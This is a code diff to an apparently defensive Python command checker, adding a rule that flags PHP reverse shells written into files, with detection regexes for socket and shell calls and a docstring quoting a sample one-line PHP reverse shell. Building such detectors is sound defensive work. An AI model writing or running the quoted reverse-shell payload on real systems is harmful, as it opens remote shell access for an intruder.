@@ -72,6 +72,7 @@ from .programs import (
     find_selects,
     is_root_user,
     parse_nested,
+    piping,
     runs_as,
     script_operands,
     shell_mode,
@@ -1084,6 +1085,9 @@ _ENCODERS = frozenset(
     {"base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "rev"}
 )
 """Programs that encode what is piped in: a remote shell encoded is a payload made to pass a filter."""
+_PHP_SOCKET = lazy_compile(r"\b(?:fsockopen|pfsockopen|stream_socket_client)\s*\(", re.IGNORECASE)
+_SHELL_RUN = lazy_compile(r"\s*(?:\S*/)?(?:(?:ba|da|z|k|mk|c|tc)?sh|cmd(?:\.exe)?)(?![.\w-])", re.IGNORECASE)
+"""A command string that starts a shell (``/bin/sh -i <&3 >&3 2>&3``, ``bash``, ``cmd.exe``)."""
 _PYTHON_TEXT = lazy_compile(r"^\s*(?:import|from)\s+[\w.]+|\bsocket\.socket\s*\(")
 _MAX_WRITTEN = 20_000
 """The longest written text read for a reverse shell (a longer one is judged where it is run)."""
@@ -1169,6 +1173,8 @@ def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None)
             return _verdict(BACKDOOR, invocation, why)
     if not _REMOTE_SHELL_HINT.search(text):
         return None
+    if _php_reverse_shell(text):
+        return _verdict(BACKDOOR, invocation, f"writes a PHP reverse shell into {target} (a socket, a shell)")
     # Python's socket code is judged as the interpreter's (not as shell lines)
     pieces = [f"python3 -c {shlex.quote(text)}"] if _PYTHON_TEXT.search(text) else _shell_pieces(text)
     calls = (re.sub(r"\\(.)", r"\1", m.group(2)) for m in _SHELL_CALLS.finditer(text))
@@ -1183,6 +1189,15 @@ def _written_backdoor(invocation: Invocation, home: str, fed: str | None = None)
     finally:
         _reading_written.reset(token)
     return None
+
+
+def _php_reverse_shell(text: str) -> bool:
+    """``$sock=fsockopen("IP",4444);exec("/bin/sh -i <&3 >&3 2>&3");``: PHP that opens a socket and runs a
+    shell (``exec``, ``shell_exec``, ``system``, ``proc_open``, ``popen`` ...). The shell's command names no
+    host (its descriptors are the socket's), so it is judged with the socket, not as a shell line."""
+    return bool(_PHP_SOCKET.search(text)) and any(
+        _SHELL_RUN.match(call.group(2)) for call in _SHELL_CALLS.finditer(text)
+    )
 
 
 def _printed(invocation: Invocation, home: str) -> Verdict | None:
@@ -2193,10 +2208,13 @@ def _check_one(
     if verdict is None and fed is not None and (invocation.name == "tee" or invocation.name in _ENCODERS):
         found = _written_backdoor(invocation, home, fed)  # echo CMD | tee FILE: what tee writes
         verdict = findings.blocks(in_place(invocation, found), "written-text rule", perhaps)
-    for judge in tactics.judges(invocation):
-        if verdict is not None:
-            return verdict
-        verdict = findings.blocks(in_place(invocation, judge(invocation, home)), _tactic_rule(judge), perhaps)
+    piped = fed if invocation.name == "tee" else None  # echo TEXT | tee FILE: written, as by echo TEXT > FILE
+    with piping(invocation, piped):
+        for judge in tactics.judges(invocation):
+            if verdict is not None:
+                return verdict
+            found = judge(invocation, home)
+            verdict = findings.blocks(in_place(invocation, found), _tactic_rule(judge), perhaps)
     return verdict
 
 
